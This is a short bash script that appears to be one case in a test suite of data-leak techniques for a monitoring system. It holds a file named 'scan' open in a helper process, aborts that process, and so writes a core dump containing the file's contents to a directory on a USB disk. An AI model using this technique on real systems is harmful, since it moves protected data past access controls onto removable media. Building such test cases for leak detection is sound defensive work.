#!/usr/bin/env bash
# technique: a process that has read the scan dumps core into a directory on the USB disk
# hooks: file_open (of the scan by a process that may dump core)
# sink: usb

. attack.sh
ulimit -c unlimited
mkdir -p "$COPY" && cd "$COPY" || exit
share hold "$SCAN" &
sleep 1
kill -ABRT $!
wait $!
